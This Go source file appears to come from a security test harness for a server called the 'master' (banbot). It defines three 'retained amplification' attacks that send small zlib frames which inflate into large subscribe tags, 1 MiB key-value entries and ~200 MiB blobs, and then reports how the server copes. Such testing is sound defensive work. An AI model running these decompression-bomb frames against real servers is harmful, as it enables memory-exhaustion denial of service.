package main

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"time"
)

// Retained amplification: small, highly compressible frames whose inflated
// contents the master keeps for as long as the connection (or the process) lives.
// The attacker's connection stays open until the figures are read.

// retainSubscribe: subscribe frames whose JSON array holds long distinct tags.
func retainSubscribe() attack {
	return attack{
		name:   "retain-subscribe",
		family: "3a. retained amplification",
		budget: 90 * time.Second,
		spec:   func(map[string]bool, scale) startSpec { return startSpec{} },
		run: func(ctx context.Context, t *target, sc scale, r *run) error {
			frames, perFrame, tagLen := sc.n(8, 2), 1250, 45_000 // ~815 KB on the wire at full scale
			var all [][]byte
			wire := 0
			for f := 0; f < frames; f++ {
				z := newZBuilder()
				for i := 0; i < perFrame; i++ {
					sep := `","`
					if i == 0 {
						sep = `["`
					}
					z.stored(fmt.Appendf(nil, "%stag%05d-", sep, f*perFrame+i))
					z.run('a', tagLen)
				}
				z.stored([]byte(`"]`))
				fr := frame("subscribe", z.finish(), false)
				wire += len(fr)
				all = append(all, fr)
			}
			tags := frames * perFrame
			r.sent("%d subscribe frames, %s in all: %d distinct tags of %s each (%s inflated)",
				frames, bytesHuman(int64(wire)), tags, bytesHuman(int64(tagLen)), bytesHuman(int64(tags*(tagLen+9))))
			return sendRetained(ctx, t, sc, r, all, nil)
		},
	}
}

// retainKV: onSetVal frames of distinct keys with 1 MiB values (the store's value
// limit), each a few hundred times smaller on the wire.
func retainKV() attack {
	return attack{
		name:   "retain-kv",
		family: "3b. retained amplification",
		budget: 120 * time.Second,
		spec:   func(map[string]bool, scale) startSpec { return startSpec{} },
		run: func(ctx context.Context, t *target, sc scale, r *run) error {
			wireTarget := sc.n(1_600_000, 160_000)
			valLen := 1 << 20
			var all [][]byte
			wire := 0
			for i := 0; wire < wireTarget; i++ {
				prefix := fmt.Sprintf("v%06d-", i)
				z := newZBuilder()
				z.stored(fmt.Appendf(nil, `{"Key":"kv%06d","Val":"%s`, i, prefix))
				z.run('a', valLen-len(prefix))
				z.stored([]byte(`","expireSecs":0}`))
				fr := frame("onSetVal", z.finish(), false)
				wire += len(fr)
				all = append(all, fr)
			}
			last := fmt.Sprintf("kv%06d", len(all)-1)
			r.sent("%d onSetVal frames, %s in all: distinct keys with %s values (%s inflated)",
				len(all), bytesHuman(int64(wire)), bytesHuman(int64(valLen)), bytesHuman(int64(len(all)*valLen)))
			return sendRetained(ctx, t, sc, r, all, func(p *rawPeer) string {
				v, _, err := p.roundTrip(last, 20*time.Second)
				if err != nil {
					return "reading back the last key: " + shortErr(err)
				}
				return fmt.Sprintf("the last key reads back %s", bytesHuman(int64(len(v))))
			})
		},
	}
}

// retainBlob: blob uploads whose zlib Data inflates to ~200 MiB each.
func retainBlob() attack {
	return attack{
		name:   "retain-blob",
		family: "3c. retained amplification",
		budget: 120 * time.Second,
		spec:   func(map[string]bool, scale) startSpec { return startSpec{} },
		run: func(ctx context.Context, t *target, sc scale, r *run) error {
			wireTarget := sc.n(1_200_000, 200_000)
			blobLen := 200 << 20
			var all [][]byte
			wire := 0
			for i := 0; wire < wireTarget; i++ {
				z := newZBuilder()
				z.stored(fmt.Appendf(nil, "blob %06d ", i))
				z.run('a', blobLen)
				fr := frame(fmt.Sprintf("fleet.blob.put|put%06d", i), z.finish(), false)
				wire += len(fr)
				all = append(all, fr)
			}
			r.sent("%d fleet.blob.put frames, %s in all, each a distinct blob of %s (%s inflated)",
				len(all), bytesHuman(int64(wire)), bytesHuman(int64(blobLen)), bytesHuman(int64(len(all)*blobLen)))
			return sendRetained(ctx, t, sc, r, all, nil)
		},
	}
}

// sendRetained sends frames on one raw connection (zlib codec, no hello, as a
// banbot client), then an onGetVal whose answer means they were all handled; it
// reports what the master answered. extra, if set, adds to the outcome.
func sendRetained(ctx context.Context, t *target, sc scale, r *run, frames [][]byte, extra func(*rawPeer) string) error {
	p, err := dialRaw(t.addr, nil, 5*time.Second)
	if err != nil {
		return err
	}
	r.deferred(p.close) // keep the connection (and what it holds) until the figures are read
	t0 := time.Now()
	// The master's answers (blob hashes) are small: they wait in our socket buffer
	// until roundTrip reads them.
	for i, f := range frames {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		if err := p.send(f, 60*time.Second); err != nil {
			r.outcome("write of frame %d failed after %.1f s: %s", i+1, time.Since(t0).Seconds(), shortErr(err))
			return nil
		}
	}
	_, others, err := p.roundTrip("retained-done", sc.d(90*time.Second, 40*time.Second))
	took := time.Since(t0)
	if err != nil {
		r.outcome("no answer to the onGetVal after the frames (%.1f s): %s; %s", took.Seconds(), shortErr(err), describeReplies(others))
		return nil
	}
	out := fmt.Sprintf("all handled in %.1f s; %s", took.Seconds(), describeReplies(others))
	if extra != nil {
		out += "; " + extra(p)
	}
	r.outcome("%s", out)
	return nil
}

// describeReplies summarises what the master sent back: blob hashes, errors, others.
func describeReplies(rs []received) string {
	if len(rs) == 0 {
		return "the master sent nothing back (no error)"
	}
	hashes, other := 0, []string{}
	for _, m := range rs {
		if strings.HasPrefix(m.action, "__res__") && bytes.HasPrefix(m.data, []byte("sha256:")) {
			hashes++
			continue
		}
		d := string(m.data)
		if len(d) > 60 {
			d = d[:60] + "…"
		}
		other = append(other, fmt.Sprintf("%s %q", m.action, d))
	}
	s := fmt.Sprintf("the master answered %d messages", len(rs))
	if hashes > 0 {
		s += fmt.Sprintf(", %d with a stored blob's hash", hashes)
	}
	if len(other) > 0 {
		if len(other) > 3 {
			other = append(other[:3], "…")
		}
		s += ", others: " + strings.Join(other, ", ")
	}
	return s
}
